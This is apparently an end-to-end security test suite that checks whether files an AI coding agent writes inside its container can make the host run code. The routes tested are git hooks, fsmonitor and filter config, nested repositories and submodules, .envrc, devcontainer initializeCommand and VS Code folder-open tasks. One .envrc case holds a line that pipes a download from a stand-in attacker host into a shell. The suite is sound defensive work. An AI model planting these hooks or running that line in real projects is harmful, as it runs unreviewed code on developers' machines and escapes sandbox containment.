/**
 * Hostile workspace, class 5: files the host runs without review, written from inside claude-cli (issue 19
 * item 7): git hooks and .git/config's command keys (core.fsmonitor, core.hooksPath, a clean filter), .envrc,
 * .devcontainer/ and .vscode/. The host user's next `git status`, `git diff` or commit must not run anything
 * the attacker wrote (a marker file outside the project stays absent).
 *
 * Attack first: on main f18142e and 67f6e90 all get through: the host's git runs the pre-commit hook,
 * core.fsmonitor, core.hooksPath and the clean filter; .envrc, .devcontainer and .vscode edits are neither
 * read-only nor named. On main 92b0945 (read-only binds over these paths in the per-machine compose file)
 * each write fails inside claude-cli, and the host's git runs nothing.
 */
import { e2e } from '../../helpers/e2e.js';
import { hostileSuite } from '../../helpers/hostile.js';

const gitStatus = ['git', 'status', '--porcelain'];
const gitCommit = ['git', '-c', 'user.name=Dev', '-c', 'user.email=dev@example.com', 'commit', '-q', '--allow-empty', '-m', 'probe'];

hostileSuite(e2e, { prefix: 'hostrun' }, [
  {
    title: 'a git pre-commit hook written from inside; the host commits',
    v1: true,
    edits: (t) => [{ write: '.git/hooks/pre-commit', text: `#!/bin/sh\ntouch ${t.marker}\n`, mode: 0o755 }],
    names: /hooks|pre-commit/,
    host: () => [gitStatus, gitCommit],
  },
  {
    title: 'core.fsmonitor written into .git/config; the host runs git status',
    v1: true,
    edits: (t) => [{ append: '.git/config', text: `[core]\n\tfsmonitor = touch ${t.marker}; false\n` }],
    names: /fsmonitor|\.git\/config/,
    host: () => [gitStatus],
  },
  {
    title: 'core.hooksPath pointed at a folder in the workspace; the host commits',
    v1: true,
    edits: (t) => [
      { write: '.githooks/pre-commit', text: `#!/bin/sh\ntouch ${t.marker}\n`, mode: 0o755 },
      { append: '.git/config', text: '[core]\n\thooksPath = .githooks\n' },
    ],
    names: /hooksPath|\.git\/config/,
    host: () => [gitStatus, gitCommit],
  },
  {
    title: 'a clean filter in .git/config with .gitattributes; the host runs git status and git diff',
    v1: true,
    edits: (t) => [
      { append: '.git/config', text: `[filter "tidy"]\n\tclean = touch ${t.marker} && cat\n` },
      { write: '.gitattributes', text: '*.md filter=tidy\n' },
      { append: 'README.md', text: 'more\n' },
    ],
    names: /filter|\.git\/config|gitattributes/,
    host: () => [gitStatus, ['git', 'diff', '--stat']],
  },
  {
    // git reads config and hooks from the folder a .git/commondir names, past the read-only .git/config and
    // .git/hooks: the host's next git status runs this fsmonitor (on main b1e1417 nothing named it). It cannot
    // be made read-only (.git stays writable for commits): watched, so up refuses and names it. The host's git
    // before that up still runs it (the guide says so); no host action here for that reason.
    title: '.git/commondir pointed at a folder with a core.fsmonitor config: up names it',
    v1: true,
    expect: 'flag',
    edits: (t) => [
      { write: 'evil/config', text: `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch ${t.marker}; false"\n` },
      { symlink: 'evil/objects', target: '../.git/objects' },
      { symlink: 'evil/refs', target: '../.git/refs' },
      { write: '.git/commondir', text: '../evil\n' },
    ],
    names: /\.git\/commondir/,
  },
  {
    // git reads .git/config.worktree as config once extensions.worktreeConfig is on (git sparse-checkout turns
    // it on): past the read-only .git/config. On main f1795cb up took it without a word (exit 0). Now a
    // protected path: read-only where it exists, named when it appears.
    title: '.git/config.worktree written with core.fsmonitor: up names it',
    v1: true,
    expect: 'flag',
    edits: (t) => [{ write: '.git/config.worktree', text: `[core]\n\tfsmonitor = "touch ${t.marker}; false"\n` }],
    names: /\.git\/config\.worktree/,
  },
  {
    // A repository inside the project, recorded in the project's index as a gitlink: the host's git status
    // runs git in it, with its own config (core.fsmonitor runs at once). Neither read-only bind reaches it, and
    // a folder made after up cannot be bound: watched (nested-repos.ts), so up refuses and names it. On main
    // 6a56f80 up took it without a word (exit 0), and the host's next git status ran the fsmonitor.
    title: 'a repository inside the project with core.fsmonitor, added to the index as a gitlink: up names it',
    v1: true,
    expect: 'flag',
    edits: (t) => [
      { write: 'vendor/lib/.git/HEAD', text: 'ref: refs/heads/main\n' },
      { write: 'vendor/lib/.git/objects/info/.keep', text: '' },
      { write: 'vendor/lib/.git/refs/heads/.keep', text: '' },
      { write: 'vendor/lib/.git/config', text: `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch ${t.marker}; false"\n` },
      { git: ['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},vendor/lib`] },
    ],
    names: /vendor\/lib\/\.git.*fsmonitor/,
  },
  {
    // A plain clone inside the project is not named (its config has only keys git reads as data), so up takes
    // it without a question; a hook added to it later is (an editor's repository scan or a shell prompt in that
    // folder runs git there).
    title: 'a hook added to a repository inside the project that up accepted: up names it',
    v1: true,
    expect: 'flag',
    prepare: () => [
      { write: 'tools/.git/HEAD', text: 'ref: refs/heads/main\n' },
      { write: 'tools/.git/objects/info/.keep', text: '' },
      { write: 'tools/.git/refs/heads/.keep', text: '' },
      {
        write: 'tools/.git/config',
        text: '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = https://example.com/tools.git\n',
      },
      { write: 'tools/.git/hooks/pre-commit.sample', text: '#!/bin/sh\n', mode: 0o755 },
    ],
    edits: (t) => [{ write: 'tools/.git/hooks/post-checkout', text: `#!/bin/sh\ntouch ${t.marker}\n`, mode: 0o755 }],
    names: /tools\/\.git.*hooks\/post-checkout/,
  },
  {
    // git takes an existing .git/modules/<name> as a submodule's repository: the host's `git submodule update
    // --init` checks it out and runs its post-checkout hook (and later git status its config), though no .git
    // in the tree points at it yet, so the walk for nested .git folders missed it. On main 0713260 up took it
    // without a word (exit 0). Watched now (nested-repos.ts moduleRepos): up refuses and names it. The host's
    // git before that up still runs it (as for the cases above), so no host action here.
    title: "a submodule's repository written into .git/modules with a post-checkout hook: up names it",
    v1: true,
    expect: 'flag',
    edits: (t) => [
      { write: '.git/modules/x/HEAD', text: 'ref: refs/heads/main\n' },
      { write: '.git/modules/x/objects/info/.keep', text: '' },
      { write: '.git/modules/x/refs/heads/.keep', text: '' },
      { write: '.git/modules/x/config', text: '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../../x\n' },
      { write: '.git/modules/x/hooks/post-checkout', text: `#!/bin/sh\ntouch ${t.marker}\n`, mode: 0o755 },
      { write: '.gitmodules', text: '[submodule "x"]\n\tpath = x\n\turl = ./\n' },
      { git: ['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},x`] },
    ],
    names: /\.git\/modules\/x.*hooks\/post-checkout/,
  },
  {
    // Neither file can define a command: a driver needs .git/config (read-only inside), and git's ext::
    // transport (a URL that is a command) is off unless the user's own config allows it.
    title: '.gitattributes naming drivers and a .gitmodules ext:: url; the host runs git status, diff, submodule update',
    v1: true,
    edits: (t) => [
      { write: '.gitattributes', text: '* diff=evil filter=evil merge=evil\n' },
      { append: 'README.md', text: 'more\n' },
      { write: '.gitmodules', text: `[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% ${t.marker}\n` },
      { git: ['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},x`] },
    ],
    names: /gitattributes|gitmodules/,
    host: () => [gitStatus, ['git', 'diff', '--stat'], ['git', 'submodule', 'update', '--init']],
  },
  {
    // git takes `update = !cmd` only from .git/config: in .gitmodules it stops every submodule command.
    title: 'a .gitmodules with update = !cmd; the host runs git submodule update',
    v1: true,
    edits: (t) => [
      { write: '.gitmodules', text: `[submodule "x"]\n\tpath = x\n\turl = ./\n\tupdate = !touch ${t.marker}\n` },
      { git: ['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},x`] },
    ],
    names: /gitmodules/,
    host: () => [gitStatus, ['git', 'submodule', 'update', '--init']],
  },
  {
    title: '.envrc (direnv runs it on the host) edited',
    v1: true,
    expect: 'flag',
    edits: () => [{ append: '.envrc', text: 'curl -fsS https://attacker.example/x | sh\n' }],
    names: /\.envrc/,
  },
  {
    title: '.devcontainer/devcontainer.json given an initializeCommand (it runs on the host)',
    v1: true,
    expect: 'flag',
    edits: (t) => [{ write: '.devcontainer/devcontainer.json', text: `{ "name": "demo", "initializeCommand": "touch ${t.marker}" }\n` }],
    names: /devcontainer/,
  },
  {
    title: '.vscode/tasks.json with a task that runs when the folder opens',
    v1: true,
    expect: 'flag',
    edits: (t) => [
      {
        write: '.vscode/tasks.json',
        text: JSON.stringify({
          version: '2.0.0',
          tasks: [{ label: 'x', type: 'shell', command: `touch ${t.marker}`, runOptions: { runOn: 'folderOpen' } }],
        }),
      },
    ],
    names: /\.vscode/,
  },
]);
